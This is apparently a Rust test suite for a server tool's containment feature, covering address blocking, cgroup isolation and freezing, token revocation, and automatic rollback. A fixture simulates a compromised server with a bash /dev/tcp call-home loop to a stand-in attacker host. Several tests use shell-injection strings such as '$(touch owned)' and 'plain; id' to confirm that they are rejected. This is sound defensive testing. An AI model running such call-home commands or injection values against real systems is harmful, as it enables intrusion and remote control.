//! Tests that a server is contained: the attacker's next request fails and so does the connection that stands, others'
//! and responders' do not, over IPv4 and IPv6; with an end, kept by the kernel, the guard or the next `serve`; and that
//! all of it is taken back.

use std::fs;
use std::io::Read as _;
use std::time::Duration;

use process::Signal;

use crate::apart::{ATTACKER, OTHER, RESPONDER, Request, SERVER, apart, ask, ruleset};
use crate::poll::eventually;
use crate::site::{EXE, Server, Setup, Site};

const RESPONDERS: &str = "[containment]\nresponders = [\"10.77.0.3\", \"fd77::3\"]\n";

/// A site whose guards take clients from elsewhere.
fn site(server: Server) -> Site {
    Site::of(&Setup {
        keys: "guard_address = \"::\"",
        tables: RESPONDERS,
        verify_seconds: 0,
        servers: &[server],
    })
}

fn is_contained(site: &Site, server: &str) -> bool {
    let line = format!("paramedic_server_contained{{server_name=\"{server}\"}} 1");
    site.metrics().lines().any(|found| found == line)
}

#[test]
fn nothing_is_done_without_evidence_or_to_those_who_respond() {
    let Some(_beside) = apart("containing::nothing_is_done_without_evidence_or_to_those_who_respond") else {
        return;
    };
    let mut site = site(Server::notes("walled"));
    site.serve_until_ready(&["walled"]);
    let before = ruleset();
    let contain = |words: &[&str]| site.run(&[&["security", "contain", "walled"], words].concat());
    contain(&["--address", "10.77.0.2"])
        .failed(4, &["no evidence of `walled`", "--depth t0", "--without-evidence"]);
    for (address, code, words) in [
        ("0.0.0.0/0", 4, "too large"),
        ("::/0", 4, "too large"),
        ("10.77.0.3", 4, "people who respond"),
        ("10.77.0.0/24", 4, "this machine itself"),
        ("fd77::/64", 4, "this machine itself"),
        ("127.0.0.1", 4, "this machine itself"),
        ("10.77.0.2; delete table inet x", 2, "is no address"),
        ("$(touch owned)", 2, "is no address"),
        ("--", 2, ""),
    ] {
        contain(&["--without-evidence", &format!("--address={address}")]).failed(code, &[words]);
    }
    assert_eq!(ruleset(), before);
    assert!(!site.path("owned").exists() && !site.path("data/contained").exists());
    // Evidence of another server, or that was altered, is none.
    site.run(&["evidence", "collect", "--depth", "t0"]).done();
    contain(&["--isolate"]).failed(4, &["no evidence of `walled`"]);
    site.run(&["evidence", "collect", "walled", "--depth", "t0"]).done();
    contain(&["--isolate", "--incident", "019ab0d2-0000-7000-8000-000000000000"])
        .failed(4, &["of incident 019ab0d2"]);
    contain(&["--address", "10.77.0.9"]).done();
    site.run(&["security", "release", "walled"]).done();
    let folders = fs::read_dir(site.path("data/evidence")).unwrap().flatten();
    for manifest in folders.map(|folder| folder.path().join("manifest.jsonl")).filter(|file| file.exists()) {
        let text = fs::read_to_string(&manifest).unwrap();
        fs::write(&manifest, text.replacen("bytes", "Bytes", 1)).unwrap();
    }
    contain(&["--isolate"]).failed(4, &["no evidence of `walled`"]);
}

#[test]
fn an_attacker_is_cut_off_and_nobody_else() {
    let Some(beside) = apart("containing::an_attacker_is_cut_off_and_nobody_else") else { return };
    let mut site = site(Server::notes("walled"));
    site.serve_until_ready(&["walled"]);
    let port = site.port("walled");
    let before = ruleset();
    let contain = |words: &[&str]| site.run(&[&["security", "contain", "walled"], words].concat());

    site.run(&["evidence", "collect", "walled", "--depth", "t0"]).done();

    let connect =
        |who: [&str; 2]| [0, 1].map(|family| beside.connect(who[family], SERVER[family], port).unwrap());
    let (mut attacker, mut other, mut responder) = (connect(ATTACKER), connect(OTHER), connect(RESPONDER));
    for stream in attacker.iter_mut().chain(&mut other).chain(&mut responder) {
        assert_eq!(ask(stream, Request::Health).unwrap(), 200);
    }
    let told = contain(&["--address", ATTACKER[0], "--address", ATTACKER[1], "--for", "1h"]);
    assert!(told.stderr.contains("2 connections that stood were ended"), "{told:?}");
    let told = told.done();
    assert!(told.contains("nothing comes from or goes to 10.77.0.2, fd77::2"), "{told}");
    for stream in &mut attacker {
        ask(stream, Request::Health).unwrap_err();
    }
    for family in [0, 1] {
        beside.connect(ATTACKER[family], SERVER[family], port).unwrap_err();
        for who in [OTHER, RESPONDER] {
            assert_eq!(beside.status(who[family], SERVER[family], port, Request::Initialize).unwrap(), 200);
        }
    }
    for stream in other.iter_mut().chain(&mut responder) {
        assert_eq!(ask(stream, Request::Health).unwrap(), 200, "a connection that stood");
    }
    assert!(is_contained(&site, "walled"));
    let status = site.status("walled");
    assert!(status.restriction.unwrap().contains("contained by tester until"), "{}", status.reason);
    if let Some(rules) = ruleset() {
        for words in ["table inet paramedic", "10.77.0.2 timeout 59m", "priority -350", "10.77.0.3"] {
            assert!(rules.contains(words), "{words}: {rules}");
        }
    }

    // What somebody changes meanwhile is told, and nothing of ours is left.
    if before.is_some() {
        let words = ["delete", "element", "inet", "paramedic", "blocked6-walled", "{ fd77::2 }"];
        assert!(std::process::Command::new("nft").args(words).status().unwrap().success());
    }
    let released = site.run(&["security", "release", "walled"]);
    assert!(
        before.is_none()
            || released
                .stderr
                .contains("`blocked6-walled` of `inet paramedic`: 1 had timed out or were taken out"),
        "{released:?}"
    );
    released.done();
    assert_eq!(ruleset(), before);
    for family in [0, 1] {
        assert_eq!(beside.status(ATTACKER[family], SERVER[family], port, Request::Initialize).unwrap(), 200);
    }
    assert!(!is_contained(&site, "walled") && site.status("walled").restriction.is_none());
    assert!(
        !site.path("data/controls/walled.json").exists() && !site.path("data/contained/walled.json").exists()
    );
    assert!(site.run(&["security", "release", "walled"]).done().contains("nothing to do"));
}

/// A server that somebody has taken over: it goes on connecting to a machine of theirs, and holds one connection open.
fn taken_over(name: &str, tries: &str) -> Server {
    let call = "exec 3<>/dev/tcp/10.77.0.4/7000";
    let script = format!(
        "(while :; do if timeout 1 bash -c '{call}'; then echo yes; else echo no; fi >>{tries} 2>/dev/null; sleep 0.1; done) </dev/null >/dev/null 2>&1 & \
         (exec 3<>/dev/tcp/10.77.0.4/7001; exec sleep 600 </dev/null >/dev/null 2>&1) & exec {EXE} demo-server notes"
    );
    Server::new(name, &["bash", "-c", &script])
}

#[test]
fn a_server_is_cut_off_from_everybody_and_goes_on_running() {
    let Some(beside) = apart("containing::a_server_is_cut_off_from_everybody_and_goes_on_running") else {
        return;
    };
    let calls = beside.listen(OTHER[0], 7000);
    let held = beside.listen(OTHER[0], 7001);
    std::thread::spawn(move || calls.incoming().for_each(drop));
    let folder = tempfile::tempdir().unwrap();
    let tries = folder.path().join("tries");
    let mut site = site(taken_over("taken", tries.to_str().unwrap()));
    site.serve_until_ready(&["taken"]);
    let (mut shell, _) = held.accept().unwrap();
    shell.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let port = site.port("taken");
    let last = || fs::read_to_string(&tries).unwrap_or_default().lines().last().map(str::to_owned);
    eventually("it reaches its master", || last().filter(|last| last == "yes"));
    let before = ruleset();
    let pid = site.status("taken").pid.unwrap();
    site.run(&["evidence", "collect", "taken", "--depth", "t0"]).done();
    let told = site.run(&["security", "contain", "taken", "--confirmed", "--reason", "a shell in it"]).done();
    assert!(
        told.contains("its guard serves nobody")
            && told.contains("reach nobody elsewhere (by their control group)"),
        "{told}"
    );

    // Nobody elsewhere comes in, and its own reach nobody; whoever responds sees that it lives, and gets nothing from it.
    let error = shell.read(&mut [0]).unwrap_err();
    assert_eq!(error.kind(), std::io::ErrorKind::ConnectionReset, "the connection that stood: {error}");
    eventually("it reaches its master no more", || last().filter(|last| last == "no"));
    for family in [0, 1] {
        for who in [ATTACKER, OTHER] {
            beside.connect(who[family], SERVER[family], port).unwrap_err();
        }
        let ask = |request| beside.status(RESPONDER[family], SERVER[family], port, request).unwrap();
        assert_eq!((ask(Request::Health), ask(Request::Initialize)), (200, 403));
    }
    let status =
        site.until("taken", "still healthy for its own responder", |status| status.health == "healthy");
    assert_eq!(status.pid, Some(pid), "its process goes on");
    // Done again it is as it was.
    site.run(&["security", "contain", "taken", "--confirmed"]).done();
    // A process that its server starts now is held as well, and so is one after a restart.
    site.run(&["server", "restart", "taken"]).done();
    let inside = |pid: i32| {
        fs::read_to_string(format!("/proc/{pid}/cgroup"))
            .unwrap_or_default()
            .contains("paramedic-contained-taken")
    };
    eventually("the new process is held", || inside(site.status("taken").pid?).then_some(()));

    site.run(&["security", "release", "taken"]).done();
    assert_eq!(ruleset(), before);
    eventually("it reaches others again", || last().filter(|last| last == "yes"));
    assert_eq!(beside.status(OTHER[0], SERVER[0], port, Request::Initialize).unwrap(), 200);
    assert!(!inside(site.status("taken").pid.unwrap()));
}

#[test]
fn what_nobody_confirms_is_taken_back_although_serve_is_gone() {
    let Some(beside) = apart("containing::what_nobody_confirms_is_taken_back_although_serve_is_gone") else {
        return;
    };
    let mut site = site(Server::notes("lapsing"));
    site.serve_until_ready(&["lapsing"]);
    let (port, before) = (site.port("lapsing"), ruleset());
    let pid = site.status("lapsing").pid.unwrap();
    let contain = |site: &Site, words: &[&str]| {
        site.run(&[&["security", "contain", "lapsing", "--without-evidence"], words].concat()).done()
    };
    let frozen = || {
        let group = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
        let path = group.lines().find_map(|line| line.strip_prefix("0::")).unwrap().to_owned();
        let events =
            ["/sys/fs/cgroup", "/sys/fs/cgroup/unified"].map(|mount| format!("{mount}{path}/cgroup.events"));
        events.iter().any(|file| fs::read_to_string(file).is_ok_and(|text| text.contains("frozen 1")))
    };
    let told = contain(&site, &["--freeze", "--address", ATTACKER[0], "--for", "3s"]);
    assert!(told.contains("its processes are stopped (by their control group)") && frozen(), "{told}");
    assert!(
        fs::read_to_string(site.path("data/contained/lapsing.json")).unwrap().contains("did not wait for it")
    );
    beside.connect(ATTACKER[0], SERVER[0], port).unwrap_err();
    site.end_serve(Signal::KILL);
    // The kernel and the guard keep their own time.
    eventually("the attacker gets through", || beside.connect(ATTACKER[0], SERVER[0], port).ok());
    assert!(frozen(), "nobody is there to let it go on");
    site.serve();
    eventually("it goes on", || (!frozen()).then_some(()));
    eventually("nothing of it is left", || {
        (!site.path("data/contained/lapsing.json").exists()).then_some(())
    });
    assert_eq!(ruleset(), before);
    site.until("lapsing", "healthy", |status| status.health == "healthy");
    assert_eq!(beside.status(ATTACKER[0], SERVER[0], port, Request::Initialize).unwrap(), 200);
    let journal = site.run(&["journal", "list", "-o", "json"]).done();
    assert!(journal.contains("nobody has confirmed it in time"), "{journal}");

    // What is confirmed stays, beyond its time.
    contain(&site, &["--address", ATTACKER[0], "--for", "2s"]);
    site.run(&["security", "confirm", "lapsing"]).done();
    let until = std::time::Instant::now() + Duration::from_secs(3);
    eventually("its first time is over", || (std::time::Instant::now() > until).then_some(()));
    beside.connect(ATTACKER[0], SERVER[0], port).unwrap_err();
    // Under the kill switch nothing is changed, and nothing taken back.
    site.run(&["kill-switch", "on", "--reason", "a test"]).done();
    site.run(&["security", "release", "lapsing"]).failed(4, &["kill switch"]);
    site.run(&["kill-switch", "off"]).done();
    site.run(&["security", "release", "lapsing"]).done();
    assert_eq!(ruleset(), before);
    site.run(&["security", "confirm", "lapsing"]).failed(1, &["is not contained"]);
}

/// Names that would be code in a shell, an option, or a line of their own.
#[test]
fn hostile_names_are_names() {
    let Some(_beside) = apart("containing::hostile_names_are_names") else { return };
    let mut site = site(Server::notes("plain"));
    site.serve_until_ready(&["plain"]);
    for server in ["../plain", "$(touch owned)", "plain; id", "", "nobody"] {
        site.run(&["security", "contain", server, "--without-evidence"])
            .failed(2, &["no server of the configuration"]);
    }
    for name in ["$(touch owned)", "`id`", "a\" b", "'; drop", "--undo", "*"] {
        let client = format!("--client={name}");
        let told = site.run(&["security", "contain", "plain", "--without-evidence", &client]).done();
        assert!(told.contains(&format!("its guard refuses client `{name}`")), "{told}");
    }
    for wrong in ["a\nb", "a\u{1b}[2J"] {
        let client = format!("--client={wrong}");
        site.run(&["security", "contain", "plain", "--without-evidence", &client]).failed(2, &["is no name"]);
    }
    site.run(&["security", "contain", "plain", "--without-evidence", "--token", "x"])
        .failed(2, &["knows no token `x`"]);
    site.run(&["security", "release", "plain"]).done();
    assert!(!site.path("owned").exists() && !site.path("data/controls/plain.json").exists());
    // What is not understood is neither overwritten nor taken for nothing.
    fs::create_dir_all(site.path("data/contained")).unwrap();
    fs::write(site.path("data/contained/plain.json"), "{\"version\": 2}").unwrap();
    site.run(&["security", "release", "plain"]).failed(2, &["plain.json", "release that by hand"]);
    assert!(site.status("plain").restriction.unwrap().contains("cannot be used"));
}

/// Somebody has got hold of a token of a client: it is taken back alone, and then all of them.
#[test]
fn a_stolen_token_is_taken_back_and_others_are_served() {
    let Some(beside) = apart("containing::a_stolen_token_is_taken_back_and_others_are_served") else {
        return;
    };
    let mut site = site(Server::notes("guessed").with("guard_settings = \"guessed.toml\""));
    let tokens = [("ci", "0123456789abcdef-ci"), ("lab", "0123456789abcdef-lab")];
    let mut settings = String::new();
    for (name, token) in tokens {
        settings += &format!("[clients.{name}]\ntoken_file = \"{name}.token\"\n");
        let path = site.path(&format!("{name}.token"));
        fs::write(&path, token).unwrap();
        fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    }
    fs::write(site.path("guessed.toml"), settings).unwrap();
    site.serve_until_ready(&["guessed"]);
    let port = site.port("guessed");
    let shows = |who: [&str; 2], token: &str| {
        let mut stream = beside.connect(who[0], SERVER[0], port).unwrap();
        crate::apart::ask_with(
            &mut stream,
            Request::Initialize,
            &format!("Authorization: Bearer {token}\r\n"),
        )
        .unwrap()
    };
    // Guessed many times and then right: what was stolen is good for nothing from then on.
    assert!((0..20).all(|guess| shows(ATTACKER, &format!("0123456789abcdef-{guess}")) == 401));
    assert_eq!((shows(ATTACKER, tokens[0].1), shows(OTHER, tokens[1].1)), (200, 200));
    site.run(&["security", "contain", "guessed", "--without-evidence", "--token", "ci"]).done();
    assert_eq!((shows(ATTACKER, tokens[0].1), shows(OTHER, tokens[1].1)), (401, 200));
    site.run(&["security", "contain", "guessed", "--without-evidence", "--revoke-tokens"]).done();
    assert_eq!((shows(ATTACKER, tokens[0].1), shows(OTHER, tokens[1].1)), (401, 401));
    site.run(&["security", "release", "guessed"]).done();
    assert_eq!((shows(ATTACKER, tokens[0].1), shows(OTHER, tokens[1].1)), (200, 200));
}
